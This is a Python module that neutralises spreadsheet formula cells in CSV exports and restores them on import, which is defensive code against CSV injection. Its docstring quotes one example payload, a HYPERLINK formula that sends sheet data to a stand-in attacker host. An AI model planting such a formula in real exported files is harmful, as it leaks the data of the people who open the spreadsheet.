"""CSV cells that a spreadsheet would run as a formula are neutralised on export, and restored
on import, so a file still imports back exactly as it was exported.

A cell that starts with "=", "+", "-" or "@" (or a tab or carriage return, which some
spreadsheets skip before one of them) is read by Excel, LibreOffice and Google Sheets as a
formula: a party name =HYPERLINK("http://evil.example/?"&A1,"Click") from a partner's EPCIS
master data would send the sheet's data away (OWASP: CSV injection). Such a cell is written
with an apostrophe in front, which spreadsheets show as text and do not display. Numbers stay
numbers ("-2.5" is a quantity, not a formula). A value that itself starts with apostrophes
before such a character gets one more, so that reading back (one apostrophe removed) gives it
exactly. XLSX files need none of this: their text cells are string cells (inventory/xlsx.py).
"""

import csv
import re
from collections.abc import Iterable

from tablib import Dataset

_TRIGGER = re.compile(r"'*[=+\-@\t\r]")
_RESTORE = re.compile(r"'+[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value):
    """The cell as a spreadsheet may safely open it; non-text values are left as they are."""
    if isinstance(value, str) and _TRIGGER.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore(value):
    """The value a neutralised cell stood for."""
    if isinstance(value, str) and _RESTORE.match(value) and not _NUMBER.fullmatch(value[1:]):
        return value[1:]
    return value


def neutralise_row(row: Iterable) -> list:
    return [neutralise(value) for value in row]


def neutralised(dataset: Dataset) -> Dataset:
    """A copy of a tablib dataset with every cell neutralised, headings included."""
    safe = Dataset(headers=neutralise_row(dataset.headers or []) or None, title=dataset.title)
    for row in dataset:
        safe.append(neutralise_row(row))
    return safe


def restored(dataset: Dataset) -> Dataset:
    """A dataset read from a CSV file, with neutralised cells back to their values."""
    plain = Dataset(headers=[restore(h) for h in dataset.headers or []] or None)
    for row in dataset:
        plain.append([restore(value) for value in row])
    return plain


class _Writer:
    """csv.writer's rows, neutralised."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: Iterable):
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)


def csv_writer(file, **kwargs) -> _Writer:
    """csv.writer for a file that people open in a spreadsheet: formula cells neutralised."""
    return _Writer(csv.writer(file, **kwargs))
